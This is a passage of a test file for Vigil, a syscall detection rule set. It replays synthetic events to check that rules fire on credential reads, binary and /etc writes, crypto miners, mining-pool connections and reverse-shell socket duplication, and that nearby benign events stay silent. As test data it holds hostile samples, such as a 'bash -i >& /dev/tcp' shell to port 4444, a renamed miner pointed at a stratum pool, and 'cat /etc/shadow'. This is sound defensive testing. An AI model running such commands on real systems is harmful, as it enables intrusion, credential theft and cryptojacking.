/**
 * Vigil's bundled syscall rules (rules/vigil_rules.yaml).
 *
 * - The file loads with no error and no warning, alone, with the k8s audit rules (the bundled
 *   `rules/` directory, as `vigil rules validate rules/` lists it) and next to Falco's own default
 *   rules (no name collides); every rule carries a MITRE ATT&CK tactic and technique.
 * - CASES: for every rule, events that must raise it and nearby events that must not, in Vigil's
 *   replay JSON-lines format. Each case lists exactly the rules its event raises (with
 *   `rule_matching: all`), their priorities and key output fields. They run through the engine
 *   (`loadRules` + `createEngine`) and, all at once, through `runReplay` as `vigil replay` does.
 *   One rule needs the process's fd table, which the replay format does not carry: its cases add
 *   the table to the parsed event and run through the engine only.
 * - The documented ways of tuning (list append, exception append, macro append, disabling) work,
 *   and every YAML example in docs/rules.md loads on top of the bundled files without a diagnostic.
 * - A benign workload (builds, scripts, DNS/HTTPS, package installs on the host, log rotation,
 *   container start-up) raises nothing, although every one of its events is of a type some rule
 *   examines.
 * - examples/syscall-events.jsonl raises the rules listed for it here.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { parseSyscallLine } from '../../src/capture/replay/syscall-jsonl-parse.js';
import { runReplay, type ReplaySummary } from '../../src/app/replay.js';
import { createEngine, type Alert } from '../../src/engine/engine.js';
import type { FdInfo, SyscallEvent } from '../../src/engine/event.js';
import { formatIsoTime } from '../../src/engine/output/alert-format.js';
import { loadRules, priorityLabel, type LoadResult } from '../../src/engine/rules/index.js';
import { runVigil } from '../helpers/cli.js';
import { FIXTURES_SKIP_REASON, REPO_ROOT, fixturePath, haveFixtures } from '../helpers/fixtures.js';

const RULES_FILE = join(REPO_ROOT, 'rules', 'vigil_rules.yaml');
const K8S_RULES_FILE = join(REPO_ROOT, 'rules', 'vigil_k8s_audit_rules.yaml');
const BENIGN_FILE = join(REPO_ROOT, 'test', 'rules', 'vigil-rules-events', 'benign-workload.jsonl');
const SYSCALL_EXAMPLES = join(REPO_ROOT, 'examples', 'syscall-events.jsonl');

const rulesText = readFileSync(RULES_FILE, 'utf8');

type Json = Record<string, unknown>;

// ---------------------------------------------------------------------------------------------
// Event builders: objects in the replay format of docs/replay-format.md (one per JSON line).

let nextPid = 50_000;

interface ProcOpts {
  pid?: number;
  name?: string;
  exepath?: string;
  uid?: number;
  user?: string;
  tty?: number;
  cwd?: string;
  loginuid?: number;
  parent?: Json;
  is_exe_from_memfd?: boolean;
}

/** A process from its command line (`/usr/bin/cat /etc/shadow`); comm is at most 15 characters. */
function proc(cmdline: string, o: ProcOpts = {}): Json {
  const [exe = '', ...args] = cmdline.split(' ');
  const base = exe.slice(exe.lastIndexOf('/') + 1);
  const uid = o.uid ?? 0;
  const p: Json = {
    pid: o.pid ?? nextPid++,
    name: o.name ?? base.slice(0, 15),
    exe,
    exepath: o.exepath ?? (exe.startsWith('/') ? exe : `/usr/bin/${base}`),
    args,
    cwd: o.cwd ?? '/',
    tty: o.tty ?? 0,
    uid,
    user: o.user ?? (uid === 0 ? 'root' : `user${uid}`),
    loginuid: o.loginuid ?? -1,
  };
  if (o.parent) p.parent = o.parent;
  if (o.is_exe_from_memfd !== undefined) p.is_exe_from_memfd = o.is_exe_from_memfd;
  return p;
}

// Containers.
const WEB: Json = {
  id: '3f1c0a7d92b4',
  name: 'web',
  image: 'registry.example.com/shop/web:2.14.1',
  image_repository: 'registry.example.com/shop/web',
  type: 'containerd',
  privileged: false,
  k8s: { namespace: 'shop', pod_name: 'web-6d4cf56db6-x7k2p' },
};
const PRIV: Json = {
  id: 'a81be3c0f7d2',
  name: 'debug',
  image: 'docker.io/library/ubuntu:24.04',
  image_repository: 'docker.io/library/ubuntu',
  type: 'containerd',
  privileged: true,
  k8s: { namespace: 'default', pod_name: 'debug-7f9c5' },
};
const API: Json = {
  id: '5b20e9d1c4a8',
  name: 'orders-api',
  image: 'registry.example.com/shop/orders:1.8.0',
  image_repository: 'registry.example.com/shop/orders',
  type: 'containerd',
  privileged: false,
  k8s: { namespace: 'shop', pod_name: 'orders-api-5d8f7b-k2x9q' },
};

// Process trees.
const SYSTEMD = proc('/sbin/init', { pid: 1, name: 'systemd', exepath: '/usr/lib/systemd/systemd' });
const SSHD = proc('/usr/sbin/sshd -D', { pid: 812, parent: SYSTEMD });
const ALICE_SHELL = proc('-bash', {
  pid: 20_101,
  name: 'bash',
  exepath: '/usr/bin/bash',
  uid: 1000,
  user: 'alice',
  tty: 34_817,
  loginuid: 1000,
  cwd: '/home/alice',
  parent: SSHD,
});
const ROOT_SHELL = proc('/bin/bash', {
  pid: 20_150,
  tty: 34_817,
  loginuid: 1000,
  cwd: '/root',
  parent: ALICE_SHELL,
});
const CONTAINERD_SHIM = proc('/usr/bin/containerd-shim-runc-v2 -namespace k8s.io', {
  pid: 48_090,
  name: 'containerd-shim',
  parent: SYSTEMD,
});
const RUNC_INIT = proc('runc init', {
  pid: 48_211,
  name: 'runc:[2:INIT]',
  exepath: '/usr/bin/runc',
  parent: CONTAINERD_SHIM,
});
/** `kubectl exec -it web -- bash` */
const WEB_SHELL = proc('/bin/bash', { pid: 48_215, tty: 34_816, cwd: '/app', parent: RUNC_INIT });
const PRIV_SHELL = proc('/bin/bash', { pid: 61_002, tty: 34_818, parent: RUNC_INIT });
const NODE_APP = proc('node server.js', {
  pid: 48_102,
  exepath: '/usr/local/bin/node',
  uid: 1000,
  user: 'node',
  cwd: '/app',
  parent: CONTAINERD_SHIM,
});

/** Open flags in the driver's encoding (PPM_O_*), see docs/replay-format.md. */
const PPM_O: Readonly<Record<string, number>> = {
  O_RDONLY: 1,
  O_WRONLY: 2,
  O_RDWR: 3,
  O_CREAT: 4,
  O_APPEND: 8,
  O_EXCL: 32,
  O_TRUNC: 256,
  O_CLOEXEC: 4096,
};

function flags(names: string[]): { raw: number; text: string } {
  let raw = 0;
  for (const n of names) raw |= PPM_O[n] ?? 0;
  return { raw, text: names.join('|') };
}

function withContainer(ev: Json, container?: Json): Json {
  if (container) ev.container = container;
  return ev;
}

function execEv(p: Json, container?: Json): Json {
  const args = p.args as string[];
  return withContainer(
    { type: 'execve', res: 0, args: { exe: p.exe, args: args.join(' '), tty: p.tty }, proc: p },
    container,
  );
}

/** openat; `fd` < 0 makes a failed open (fd.num = -errno). */
function openEv(p: Json, path: string, flagNames: string[], container?: Json, fd = 3): Json {
  const f = flags(flagNames);
  return withContainer(
    {
      type: 'openat',
      res: fd,
      args: { fd, dirfd: -100, name: path, flags: f, mode: flagNames.includes('O_CREAT') ? 0o644 : 0 },
      proc: p,
      fd: { num: fd, type: 'file', name: path, flags: f.raw },
    },
    container,
  );
}

interface Sock {
  cip: string;
  cport: number;
  sip: string;
  sport: number;
  l4proto?: 'tcp' | 'udp';
}

/** fd.name of a connected socket: `cip:cport->sip:sport` (IPv6 addresses in brackets). */
function tupleName(s: Sock): string {
  return s.sip.includes(':')
    ? `[${s.cip}]:${s.cport}->[${s.sip}]:${s.sport}`
    : `${s.cip}:${s.cport}->${s.sip}:${s.sport}`;
}

function sockFd(num: number, s: Sock): Json {
  return {
    num,
    type: s.sip.includes(':') ? 'ipv6' : 'ipv4',
    name: tupleName(s),
    l4proto: s.l4proto ?? 'tcp',
    cip: s.cip,
    cport: s.cport,
    sip: s.sip,
    sport: s.sport,
    connected: true,
  };
}

/** connect; res 0, or -115 (EINPROGRESS) for a non-blocking connect, or another -errno. */
function connectEv(p: Json, s: Sock, container?: Json, res = 0): Json {
  const fd = { ...sockFd(7, s), name_changed: true };
  return withContainer(
    { type: 'connect', res, args: { res, tuple: tupleName(s), fd: 7 }, proc: p, fd },
    container,
  );
}

/** dup2 of `oldfd` (described by `fd`) onto `newfd`. */
function dupEv(p: Json, oldfd: number, newfd: number, fd: Json, container?: Json, type = 'dup2'): Json {
  const args: Json = type === 'dup' ? { res: newfd, oldfd } : { res: newfd, oldfd, newfd };
  return withContainer({ type, res: newfd, args, proc: p, fd: { ...fd, num: oldfd } }, container);
}

function ptraceEv(p: Json, request: string, target: number, container?: Json, res = 0): Json {
  const raw: Readonly<Record<string, number>> = {
    PTRACE_TRACEME: 0,
    PTRACE_PEEKDATA: 2,
    PTRACE_ATTACH: 16,
    PTRACE_SEIZE: 16_902,
  };
  return withContainer(
    {
      type: 'ptrace',
      res,
      args: { res, addr: 0, data: 0, request: { raw: raw[request] ?? 0, text: request }, pid: target },
      proc: p,
    },
    container,
  );
}

function finitModuleEv(p: Json, file: string, container?: Json): Json {
  return withContainer(
    {
      type: 'finit_module',
      res: 0,
      args: { res: 0, fd: 3, uargs: '', flags: 0 },
      proc: p,
      fd: { num: 3, type: 'file', name: file, flags: 4097 },
    },
    container,
  );
}

function mountEv(p: Json, dev: string, dir: string, fstype: string, container?: Json, res = 0): Json {
  return withContainer(
    { type: 'mount', res, args: { res, dev, dir, type: fstype, flags: 0 }, proc: p },
    container,
  );
}

function setnsEv(p: Json, nsPath: string, nstype: string, container?: Json): Json {
  return withContainer(
    {
      type: 'setns',
      res: 0,
      args: { res: 0, fd: 3, nstype: { raw: 0, text: nstype } },
      proc: p,
      fd: { num: 3, type: 'file', name: nsPath },
    },
    container,
  );
}

function unlinkatEv(p: Json, path: string, container?: Json, res = 0): Json {
  return withContainer(
    { type: 'unlinkat', res, args: { res, dirfd: -100, name: path, flags: 0 }, proc: p },
    container,
  );
}

function renameEv(p: Json, oldpath: string, newpath: string, container?: Json): Json {
  return withContainer(
    {
      type: 'renameat2',
      res: 0,
      args: { res: 0, olddirfd: -100, oldpath, newdirfd: -100, newpath, flags: 0 },
      proc: p,
    },
    container,
  );
}

// ---------------------------------------------------------------------------------------------
// Cases

interface Expected {
  rule: string;
  /** Output fields that must have exactly these values (JSON output, `output_fields`). */
  fields?: Record<string, unknown>;
}

interface Case {
  what: string;
  /** The rule this case is about (a positive when `fires` names it, a negative otherwise). */
  about: string;
  event: Json;
  /** Every rule the event raises with `rule_matching: all`. */
  fires: Expected[];
  /** An fd table for the process (live state); such cases cannot be replayed from JSON lines. */
  fds?: Record<number, Omit<FdInfo, 'num'>>;
}

const PRIORITY: Readonly<Record<string, string>> = {
  'Interactive Shell In Container': 'Notice',
  'Password Or Sudoers File Read By Untrusted Program': 'Warning',
  'SSH Private Key Read By Untrusted Program': 'Warning',
  'Cloud Credentials Read By Untrusted Program': 'Warning',
  'Kubernetes Credentials Read By Shell Tool': 'Warning',
  'Write Below Binary Directory': 'Error',
  'Write Below Etc': 'Warning',
  'Package Manager Run In Container': 'Notice',
  'Crypto Miner Launched': 'Critical',
  'Outbound Connection To Mining Pool Port': 'Warning',
  'Network Socket Duplicated Onto Standard Stream': 'Error',
  'Shell Started With Network Socket As Stdin': 'Critical',
  'Netcat Or Socat Running A Program': 'Error',
  'Ptrace Attach To Process': 'Warning',
  'Kernel Module Loaded': 'Warning',
  'Kernel Module Tool Run In Container': 'Critical',
  'Container Escape Via Kernel Hook File': 'Critical',
  'Proc Sys Written From Container': 'Warning',
  'Mount Executed In Container': 'Error',
  'Namespace Change In Container': 'Error',
  'Log File Cleared': 'Warning',
  'Execution From Dev Shm': 'Warning',
  'Fileless Execution From Memfd': 'Critical',
  'Outbound Connection From Server Process': 'Warning',
};

const SHADOW_READ = 'Password Or Sudoers File Read By Untrusted Program';
const MINER_PORT = 'Outbound Connection To Mining Pool Port';
const DUP = 'Network Socket Duplicated Onto Standard Stream';
const SERVER_OUT = 'Outbound Connection From Server Process';

const webCat = proc('cat /etc/shadow', { parent: WEB_SHELL });
const renamedMiner = proc(
  '/tmp/.x/systemd-helper -o stratum+tcp://pool.example.net:3333 -u 4AdUnd --donate-level 1',
  {
    parent: WEB_SHELL,
  },
);
const nginx = proc('nginx: worker process', {
  name: 'nginx',
  exepath: '/usr/sbin/nginx',
  uid: 101,
  user: 'nginx',
});
const postgres = proc('postgres: orders orders 10.0.4.7(51234) idle', {
  name: 'postgres',
  exepath: '/usr/lib/postgresql/16/bin/postgres',
  uid: 999,
  user: 'postgres',
});
const webSock: Sock = { cip: '10.244.2.31', cport: 51_514, sip: '198.51.100.9', sport: 4444 };

const CASES: Case[] = [
  // Interactive Shell In Container
  {
    what: 'kubectl exec -it: bash with a terminal, parent runc',
    about: 'Interactive Shell In Container',
    event: execEv(WEB_SHELL, WEB),
    fires: [
      {
        rule: 'Interactive Shell In Container',
        fields: {
          'proc.name': 'bash',
          'proc.pname': 'runc:[2:INIT]',
          'proc.aname[2]': 'containerd-shim',
          'proc.tty': 34_816,
          'container.id': '3f1c0a7d92b4',
          'container.image.repository': 'registry.example.com/shop/web',
          'k8s.ns.name': 'shop',
          'k8s.pod.name': 'web-6d4cf56db6-x7k2p',
        },
      },
    ],
  },
  {
    what: 'an entrypoint script: sh without a terminal',
    about: 'Interactive Shell In Container',
    event: execEv(proc('/bin/sh /docker-entrypoint.sh nginx', { parent: RUNC_INIT }), WEB),
    fires: [],
  },
  {
    what: 'a shell started from the interactive shell (same session)',
    about: 'Interactive Shell In Container',
    event: execEv(proc('/bin/sh', { tty: 34_816, parent: WEB_SHELL }), WEB),
    fires: [],
  },
  {
    what: 'an SSH login shell on the host',
    about: 'Interactive Shell In Container',
    event: execEv(ALICE_SHELL),
    fires: [],
  },

  // Password Or Sudoers File Read By Untrusted Program
  {
    what: 'cat /etc/shadow in a container',
    about: SHADOW_READ,
    event: openEv(webCat, '/etc/shadow', ['O_RDONLY'], WEB),
    fires: [
      {
        rule: SHADOW_READ,
        fields: {
          'fd.name': '/etc/shadow',
          'proc.name': 'cat',
          'proc.pname': 'bash',
          'container.id': '3f1c0a7d92b4',
        },
      },
    ],
  },
  {
    what: 'a Python script reads a sudoers.d drop-in on the host',
    about: SHADOW_READ,
    event: openEv(
      proc('python3 /tmp/enum.py', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/etc/sudoers.d/90-cloud-init-users',
      ['O_RDONLY', 'O_CLOEXEC'],
    ),
    fires: [
      {
        rule: SHADOW_READ,
        fields: {
          'fd.name': '/etc/sudoers.d/90-cloud-init-users',
          'container.id': 'host',
          'user.name': 'alice',
        },
      },
    ],
  },
  {
    what: 'sudo reads /etc/shadow to check a password',
    about: SHADOW_READ,
    event: openEv(proc('sudo -i', { parent: ALICE_SHELL, tty: 34_817 }), '/etc/shadow', [
      'O_RDONLY',
      'O_CLOEXEC',
    ]),
    fires: [],
  },
  {
    what: 'cat /etc/passwd (not sensitive)',
    about: SHADOW_READ,
    event: openEv(webCat, '/etc/passwd', ['O_RDONLY'], WEB),
    fires: [],
  },
  {
    what: 'a failed open of /etc/shadow (EACCES)',
    about: SHADOW_READ,
    event: openEv(
      proc('cat /etc/shadow', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/etc/shadow',
      ['O_RDONLY'],
      undefined,
      -13,
    ),
    fires: [],
  },
  {
    what: 'a package maintainer script (grandchild of dpkg) reads /etc/shadow',
    about: SHADOW_READ,
    event: openEv(
      proc('grep -q ^_apt: /etc/shadow', {
        parent: proc('/bin/sh /var/lib/dpkg/info/apt.postinst configure', {
          name: 'apt.postinst',
          parent: proc('dpkg --configure -a', { parent: ROOT_SHELL }),
        }),
      }),
      '/etc/shadow',
      ['O_RDONLY'],
    ),
    fires: [],
  },

  // SSH Private Key Read By Untrusted Program
  {
    what: 'a Python script reads a user private key',
    about: 'SSH Private Key Read By Untrusted Program',
    event: openEv(
      proc('python3 steal.py', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.ssh/id_ed25519',
      ['O_RDONLY'],
    ),
    fires: [
      {
        rule: 'SSH Private Key Read By Untrusted Program',
        fields: { 'fd.name': '/home/alice/.ssh/id_ed25519', 'proc.name': 'python3' },
      },
    ],
  },
  {
    what: 'cat of a host key',
    about: 'SSH Private Key Read By Untrusted Program',
    event: openEv(
      proc('cat /etc/ssh/ssh_host_ed25519_key', { parent: ROOT_SHELL }),
      '/etc/ssh/ssh_host_ed25519_key',
      ['O_RDONLY'],
    ),
    fires: [
      {
        rule: 'SSH Private Key Read By Untrusted Program',
        fields: { 'fd.name': '/etc/ssh/ssh_host_ed25519_key' },
      },
    ],
  },
  {
    what: 'ssh reads the key it authenticates with',
    about: 'SSH Private Key Read By Untrusted Program',
    event: openEv(
      proc('ssh git@github.com', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.ssh/id_ed25519',
      ['O_RDONLY'],
    ),
    fires: [],
  },
  {
    what: 'cat of a public key',
    about: 'SSH Private Key Read By Untrusted Program',
    event: openEv(
      proc('cat /home/alice/.ssh/id_ed25519.pub', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.ssh/id_ed25519.pub',
      ['O_RDONLY'],
    ),
    fires: [],
  },

  // Cloud Credentials Read By Untrusted Program
  {
    what: 'cat ~/.aws/credentials in a container',
    about: 'Cloud Credentials Read By Untrusted Program',
    event: openEv(
      proc('cat /root/.aws/credentials', { parent: WEB_SHELL }),
      '/root/.aws/credentials',
      ['O_RDONLY'],
      WEB,
    ),
    fires: [
      {
        rule: 'Cloud Credentials Read By Untrusted Program',
        fields: { 'fd.name': '/root/.aws/credentials', 'container.name': 'web' },
      },
    ],
  },
  {
    what: 'a script reads gcloud application default credentials',
    about: 'Cloud Credentials Read By Untrusted Program',
    event: openEv(
      proc('python3 x.py', { uid: 1001, user: 'bob' }),
      '/home/bob/.config/gcloud/application_default_credentials.json',
      ['O_RDONLY'],
    ),
    fires: [{ rule: 'Cloud Credentials Read By Untrusted Program', fields: { 'proc.name': 'python3' } }],
  },
  {
    what: 'the aws CLI reads its credentials',
    about: 'Cloud Credentials Read By Untrusted Program',
    event: openEv(
      proc('aws s3 ls', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.aws/credentials',
      ['O_RDONLY'],
    ),
    fires: [],
  },
  {
    what: 'cat ~/.aws/config (no secrets)',
    about: 'Cloud Credentials Read By Untrusted Program',
    event: openEv(
      proc('cat /home/alice/.aws/config', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.aws/config',
      ['O_RDONLY'],
    ),
    fires: [],
  },

  // Kubernetes Credentials Read By Shell Tool
  {
    what: 'cat of the service account token in a pod',
    about: 'Kubernetes Credentials Read By Shell Tool',
    event: openEv(
      proc('cat /var/run/secrets/kubernetes.io/serviceaccount/token', { parent: WEB_SHELL }),
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
      ['O_RDONLY'],
      WEB,
    ),
    fires: [
      {
        rule: 'Kubernetes Credentials Read By Shell Tool',
        fields: {
          'fd.name': '/var/run/secrets/kubernetes.io/serviceaccount/token',
          'k8s.pod.name': 'web-6d4cf56db6-x7k2p',
        },
      },
    ],
  },
  {
    what: 'cat of the cluster admin kubeconfig on a control-plane node',
    about: 'Kubernetes Credentials Read By Shell Tool',
    event: openEv(
      proc('cat /etc/kubernetes/admin.conf', { parent: ROOT_SHELL }),
      '/etc/kubernetes/admin.conf',
      ['O_RDONLY'],
    ),
    fires: [
      {
        rule: 'Kubernetes Credentials Read By Shell Tool',
        fields: { 'fd.name': '/etc/kubernetes/admin.conf' },
      },
    ],
  },
  {
    what: 'an operator (client-go) reads its own token',
    about: 'Kubernetes Credentials Read By Shell Tool',
    event: openEv(
      proc('/manager --leader-elect', { parent: CONTAINERD_SHIM, uid: 65_532, user: 'nonroot' }),
      '/var/run/secrets/kubernetes.io/serviceaccount/..2026_03_14_09_00_00.1234/token',
      ['O_RDONLY', 'O_CLOEXEC'],
      API,
    ),
    fires: [],
  },
  {
    what: 'cat of the service account CA certificate',
    about: 'Kubernetes Credentials Read By Shell Tool',
    event: openEv(
      proc('cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt', { parent: WEB_SHELL }),
      '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt',
      ['O_RDONLY'],
      WEB,
    ),
    fires: [],
  },
  {
    what: 'kubectl reads ~/.kube/config',
    about: 'Kubernetes Credentials Read By Shell Tool',
    event: openEv(
      proc('kubectl get pods', { uid: 1000, user: 'alice', parent: ALICE_SHELL }),
      '/home/alice/.kube/config',
      ['O_RDONLY', 'O_CLOEXEC'],
    ),
    fires: [],
  },

  // Write Below Binary Directory
  {
    what: 'cp replaces /usr/bin/sshd',
    about: 'Write Below Binary Directory',
    event: openEv(proc('cp /tmp/sshd /usr/bin/sshd', { parent: ROOT_SHELL }), '/usr/bin/sshd', [
      'O_WRONLY',
      'O_CREAT',
      'O_TRUNC',
    ]),
    fires: [
      {
        rule: 'Write Below Binary Directory',
        fields: { 'fd.name': '/usr/bin/sshd', 'proc.name': 'cp', 'fs.path.target': null },
      },
    ],
  },
  {
    what: 'mv of a dropped binary over /bin/ls in a container',
    about: 'Write Below Binary Directory',
    event: renameEv(proc('mv /tmp/.x/ls /bin/ls', { parent: WEB_SHELL }), '/tmp/.x/ls', '/bin/ls', WEB),
    fires: [
      {
        rule: 'Write Below Binary Directory',
        fields: { 'fs.path.target': '/bin/ls', 'fd.name': null, 'container.id': '3f1c0a7d92b4' },
      },
    ],
  },
  {
    what: 'dpkg unpacks a new curl',
    about: 'Write Below Binary Directory',
    event: openEv(
      proc('dpkg --unpack /var/cache/apt/archives/curl.deb', {
        parent: proc('apt-get install curl', { parent: ROOT_SHELL }),
      }),
      '/usr/bin/curl.dpkg-new',
      ['O_WRONLY', 'O_CREAT', 'O_EXCL'],
    ),
    fires: [],
  },
  {
    what: 'cp into /usr/share',
    about: 'Write Below Binary Directory',
    event: openEv(
      proc('cp README /usr/share/doc/app/README', { parent: ROOT_SHELL }),
      '/usr/share/doc/app/README',
      ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
    ),
    fires: [],
  },
  {
    what: 'reading /usr/bin/ls',
    about: 'Write Below Binary Directory',
    event: openEv(proc('sha256sum /usr/bin/ls', { parent: ROOT_SHELL }), '/usr/bin/ls', ['O_RDONLY']),
    fires: [],
  },

  // Write Below Etc
  {
    what: 'a library preload is added to /etc/ld.so.preload',
    about: 'Write Below Etc',
    event: openEv(ROOT_SHELL, '/etc/ld.so.preload', ['O_WRONLY', 'O_CREAT', 'O_APPEND']),
    fires: [{ rule: 'Write Below Etc', fields: { 'fd.name': '/etc/ld.so.preload', 'proc.name': 'bash' } }],
  },
  {
    what: 'tee writes a cron job in a container',
    about: 'Write Below Etc',
    event: openEv(
      proc('tee /etc/cron.d/sync', { parent: WEB_SHELL }),
      '/etc/cron.d/sync',
      ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
      WEB,
    ),
    fires: [
      { rule: 'Write Below Etc', fields: { 'fd.name': '/etc/cron.d/sync', 'container.id': '3f1c0a7d92b4' } },
    ],
  },
  {
    what: 'sed -i renames its temporary file over nginx.conf',
    about: 'Write Below Etc',
    event: renameEv(
      proc('sed -i s/80/8080/ /etc/nginx/nginx.conf', { parent: WEB_SHELL }),
      '/etc/nginx/sedX4k2Qa',
      '/etc/nginx/nginx.conf',
      WEB,
    ),
    fires: [{ rule: 'Write Below Etc', fields: { 'fs.path.target': '/etc/nginx/nginx.conf' } }],
  },
  {
    what: 'useradd writes /etc/passwd',
    about: 'Write Below Etc',
    event: openEv(proc('useradd -m carol', { parent: ROOT_SHELL }), '/etc/passwd+', [
      'O_WRONLY',
      'O_CREAT',
      'O_EXCL',
    ]),
    fires: [],
  },
  {
    what: 'dhclient-script rewrites /etc/resolv.conf (an allowed path, any writer)',
    about: 'Write Below Etc',
    event: openEv(
      proc('/bin/sh /sbin/dhclient-script', {
        name: 'sh',
        parent: proc('dhclient -v eth0', { parent: SYSTEMD }),
      }),
      '/etc/resolv.conf',
      ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
    ),
    fires: [],
  },
  {
    what: 'a maintainer script (child of dpkg) writes /etc/default',
    about: 'Write Below Etc',
    event: openEv(
      proc('/bin/sh /var/lib/dpkg/info/ssh.postinst configure', {
        name: 'ssh.postinst',
        parent: proc('dpkg --configure -a', { parent: ROOT_SHELL }),
      }),
      '/etc/default/ssh',
      ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
    ),
    fires: [],
  },

  // Package Manager Run In Container
  {
    what: 'apt-get install nmap in a running container',
    about: 'Package Manager Run In Container',
    event: execEv(proc('apt-get install -y nmap', { parent: WEB_SHELL }), WEB),
    fires: [
      {
        rule: 'Package Manager Run In Container',
        fields: { 'proc.name': 'apt-get', 'proc.cmdline': 'apt-get install -y nmap' },
      },
    ],
  },
  {
    what: 'pip install in a running container',
    about: 'Package Manager Run In Container',
    event: execEv(proc('pip install requests', { parent: WEB_SHELL }), WEB),
    fires: [{ rule: 'Package Manager Run In Container', fields: { 'proc.name': 'pip' } }],
  },
  {
    what: 'dpkg run by apt-get (reported once, for apt-get)',
    about: 'Package Manager Run In Container',
    event: execEv(
      proc('dpkg --unpack /var/cache/apt/archives/nmap.deb', {
        parent: proc('apt-get install -y nmap', { parent: WEB_SHELL }),
      }),
      WEB,
    ),
    fires: [],
  },
  {
    what: 'apt-get on the host',
    about: 'Package Manager Run In Container',
    event: execEv(proc('apt-get upgrade -y', { parent: ROOT_SHELL })),
    fires: [],
  },
  {
    what: 'pip list in a container',
    about: 'Package Manager Run In Container',
    event: execEv(proc('pip list', { parent: WEB_SHELL }), WEB),
    fires: [],
  },

  // Crypto Miner Launched
  {
    what: 'xmrig on the host',
    about: 'Crypto Miner Launched',
    event: execEv(proc('/opt/xmrig/xmrig -c config.json', { parent: ROOT_SHELL })),
    fires: [{ rule: 'Crypto Miner Launched', fields: { 'proc.name': 'xmrig', 'container.id': 'host' } }],
  },
  {
    what: 'a renamed miner with a Stratum pool in its arguments',
    about: 'Crypto Miner Launched',
    event: execEv(renamedMiner, WEB),
    fires: [
      {
        rule: 'Crypto Miner Launched',
        fields: { 'proc.name': 'systemd-helper', 'proc.exepath': '/tmp/.x/systemd-helper' },
      },
    ],
  },
  {
    what: 'ntpq asks for a stratum (not a Stratum URL)',
    about: 'Crypto Miner Launched',
    event: execEv(proc('ntpq -c rv 0 stratum', { parent: ROOT_SHELL })),
    fires: [],
  },
  {
    what: 'the web application starts',
    about: 'Crypto Miner Launched',
    event: execEv(NODE_APP, WEB),
    fires: [],
  },

  // Outbound Connection To Mining Pool Port
  {
    what: 'the renamed miner connects to its pool on 3333',
    about: MINER_PORT,
    event: connectEv(
      renamedMiner,
      { cip: '10.244.2.31', cport: 43_122, sip: '198.51.100.77', sport: 3333 },
      WEB,
    ),
    fires: [
      {
        rule: MINER_PORT,
        fields: {
          'fd.sip': '198.51.100.77',
          'fd.sport': 3333,
          'fd.name': '10.244.2.31:43122->198.51.100.77:3333',
          'proc.name': 'systemd-helper',
        },
      },
    ],
  },
  {
    what: 'a non-blocking connect in progress to a pool on 14444 (IPv6)',
    about: MINER_PORT,
    event: connectEv(
      proc('/tmp/m', { parent: WEB_SHELL }),
      { cip: 'fd00:10:244::1f', cport: 40_000, sip: '2001:db8::77', sport: 14_444 },
      WEB,
      -115,
    ),
    fires: [{ rule: MINER_PORT, fields: { 'fd.sport': 14_444, 'fd.l4proto': 'tcp' } }],
  },
  {
    what: 'a connection to port 3333 on a private address',
    about: MINER_PORT,
    event: connectEv(NODE_APP, { cip: '10.244.2.31', cport: 43_200, sip: '10.0.0.5', sport: 3333 }, WEB),
    fires: [],
  },
  {
    what: 'a refused connection to a public 4444',
    about: MINER_PORT,
    event: connectEv(
      renamedMiner,
      { cip: '10.244.2.31', cport: 43_201, sip: '198.51.100.77', sport: 4444 },
      WEB,
      -111,
    ),
    fires: [],
  },
  {
    what: 'HTTPS to a public address',
    about: MINER_PORT,
    event: connectEv(
      proc('curl -fsSL https://example.com', { parent: WEB_SHELL }),
      { cip: '10.244.2.31', cport: 43_202, sip: '93.184.216.34', sport: 443 },
      WEB,
    ),
    fires: [],
  },

  // Network Socket Duplicated Onto Standard Stream
  {
    what: 'bash -i >& /dev/tcp/...: the socket becomes stdin',
    about: DUP,
    event: dupEv(WEB_SHELL, 3, 0, sockFd(3, webSock), WEB),
    fires: [
      {
        rule: DUP,
        fields: {
          'evt.rawres': 0,
          'fd.name': '10.244.2.31:51514->198.51.100.9:4444',
          'proc.name': 'bash',
          'container.id': '3f1c0a7d92b4',
        },
      },
    ],
  },
  {
    what: 'a Python one-liner dups an IPv6 socket onto stdout (dup3)',
    about: DUP,
    event: dupEv(
      proc('python3 -c import_pty', { parent: ALICE_SHELL, uid: 1000, user: 'alice' }),
      4,
      1,
      sockFd(4, { cip: '2001:db8:1::5', cport: 41_000, sip: '2001:db8:2::9', sport: 443 }),
      undefined,
      'dup3',
    ),
    fires: [{ rule: DUP, fields: { 'evt.rawres': 1, 'proc.name': 'python3' } }],
  },
  {
    what: 'a shell pipeline dups a pipe onto stdout',
    about: DUP,
    event: dupEv(proc('/bin/sh -c ls|wc', { parent: ROOT_SHELL }), 4, 1, {
      num: 4,
      type: 'pipe',
      name: 'pipe:[123456]',
    }),
    fires: [],
  },
  {
    what: 'nginx dups a socket to fd 12',
    about: DUP,
    event: dupEv(
      nginx,
      3,
      12,
      sockFd(3, { cip: '10.244.2.40', cport: 80, sip: '10.244.2.41', sport: 9000 }),
      WEB,
      'dup',
    ),
    fires: [],
  },
  {
    what: 'xinetd hands a client socket to a service',
    about: DUP,
    event: dupEv(
      proc('/usr/sbin/xinetd -stayalive', { parent: SYSTEMD }),
      5,
      0,
      sockFd(5, { cip: '10.0.0.9', cport: 50_001, sip: '10.0.0.2', sport: 873 }),
    ),
    fires: [],
  },

  // Shell Started With Network Socket As Stdin (needs the fd table: engine only)
  {
    what: 'sh started by nc -e: its stdin is the socket',
